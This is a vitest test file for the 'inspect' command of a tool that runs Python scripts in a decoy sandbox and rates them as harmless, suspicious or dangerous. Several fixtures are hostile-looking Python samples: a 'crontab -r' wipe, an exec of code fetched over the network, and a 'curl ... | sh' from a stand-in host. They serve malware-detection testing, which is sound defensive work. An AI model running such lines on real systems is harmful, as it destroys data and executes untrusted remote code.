import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { parseInspect } from "../../src/cli/inspect/options.ts";
import { UsageError } from "../../src/cli/usage.ts";
import { isBuilt, runCommand, runOnTerminal } from "../cli-process.ts";

describe("the command line of inspect", () => {
  test("is read", () => {
    const words = [
      "--json",
      "--html",
      "o.html",
      "--persona=windows",
      "--network",
      "n.json",
      "--fuel",
      "1e6",
      "--timeout",
      "5s",
    ];
    expect(parseInspect([...words, "a.py"])).toEqual({
      ...{ action: "inspect", file: "a.py", json: true, html: "o.html", persona: "windows", network: "n.json" },
      ...{ fuel: 1_000_000, timeoutMs: 5000 },
    });
    expect(parseInspect(["-"])).toMatchObject({ file: "-", json: false, html: undefined, persona: undefined });
    expect(parseInspect(["--what", "-h"].slice(1))).toEqual({ action: "help" });
  });

  test.each([
    [[], "inspect needs the one script"],
    [["a.py", "b.py"], "inspect needs the one script"],
    [["--jsn", "a.py"], "did you mean --json?"],
    [["--json=1", "a.py"], "--json takes no value"],
    [["--html", "--json", "a.py"], "--html needs a value"],
    [["a.py", "--html"], "--html needs a value"],
    [["--persona", "mac", "a.py"], "--persona is linux or windows"],
    [["--fuel", "0", "a.py"], "--fuel takes"],
    [["--timeout", "soon", "a.py"], "--timeout takes"],
    [["--json", "--json", "a.py"], "--json is given twice"],
  ])("%j is refused", (words, message) => {
    expect(() => parseInspect(words)).toThrow(UsageError);
    expect(() => parseInspect(words)).toThrow(message);
  });
});

describe.skipIf(!isBuilt)("the built command", () => {
  let folder = "";
  const at = (name: string): string => join(folder, name);
  beforeAll(() => {
    folder = mkdtempSync(join(tmpdir(), "inspect-"));
  });
  afterAll(() => rmSync(folder, { recursive: true }));

  test.each([
    ["print(6 * 7)", 0, "Nothing suspicious was found"],
    ["import ctypes, sys\nif sys.gettrace() or 'vmware' in 'x': pass", 10, "Suspicious"],
    ["import os\nos.system('crontab -r')", 20, "Dangerous"],
    ["print 'Python 2'", 0, "Python 2"],
    ["\u0000\u0001(((", 0, "no Python"],
  ])("%j ends with %d", (source, expected, text) => {
    const { stdout, stderr, status } = runCommand(["inspect", "-"], source);
    expect(stderr).toBe("");
    expect(stdout).toContain(text);
    expect(status).toBe(expected);
  });

  test("JSON, the page, the persona and the network", () => {
    writeFileSync(
      at("a.py"),
      "import os, requests\nif os.name == 'nt':\n    exec(requests.get('http://example.com/a').text)\n",
    );
    writeFileSync(at("n.json"), JSON.stringify({ "http://example.com/a": "import os\nos.system('echo answered')" }));
    const words = ["--json", "--html", at("r.html"), "--persona", "windows", "--network", at("n.json"), at("a.py")];
    const { stdout, stderr, status } = runCommand(["inspect", ...words]);
    expect(stderr).toBe("");
    expect(status).toBe(20);
    expect(JSON.parse(stdout)).toMatchObject({ version: 1, verdict: "dangerous" });
    expect(stdout).toContain("echo answered");
    expect(readFileSync(at("r.html"), "utf8")).toContain("echo answered");
    expect(runCommand(["inspect", ...words]).stdout).toBe(stdout);
  });

  test.each([
    [["inspect", "/nowhere.py"], "there is no such file"],
    [["inspect", "--network", "/nowhere.json", "-"], "there is no such file"],
    [["inspect", "--html", "/nowhere/r.html", "-"], "cannot write /nowhere/r.html"],
    [["inspect"], "inspect needs the one script"],
  ])("%j is an error of the call", (words, message) => {
    const { stderr, status } = runCommand(words, "pass");
    expect(stderr).toContain(message);
    expect(status).toBe(2);
  });

  test.each(["{", "[]", '{"http://example.com/": 5}', '{"http://example.com/": {"stats": 1}}'])(
    "answers as %j are refused",
    (answers) => {
      writeFileSync(at("bad.json"), answers);
      const { stderr, status } = runCommand(["inspect", "--network", at("bad.json"), "-"], "pass");
      expect(stderr).toMatch(/network/);
      expect(status).toBe(2);
    },
  );

  test("on a terminal it says that it is at work, and colours what is grave, and no line of the script's", () => {
    writeFileSync(
      at("grave.py"),
      'import os\nos.system("curl http://drop.example.com/x | sh")\nprint("high: \\x1b[31mred")\n',
    );
    const plain = runOnTerminal(["inspect", at("grave.py")], []);
    expect(plain.screen).toContain("Reading grave.py, and running it in the decoy");
    for (const colour of ["\x1b[31m", "\x1b[33m"]) expect(plain.screen).not.toContain(colour);
    const { screen, status } = runOnTerminal(["inspect", at("grave.py")], [], { NO_COLOR: "" });
    expect(status).toBe(20);
    expect(screen).toContain("\x1b[31mDangerous");
    expect(screen).toContain("\x1b[31m  high");
    expect(screen).not.toContain("\x1b[31mred");
  });

  test("help has an example", () => {
    expect(runCommand(["inspect", "--help"])).toMatchObject({
      status: 0,
      stdout: expect.stringContaining("micropython-wasm inspect suspicious.py"),
    });
  });
});
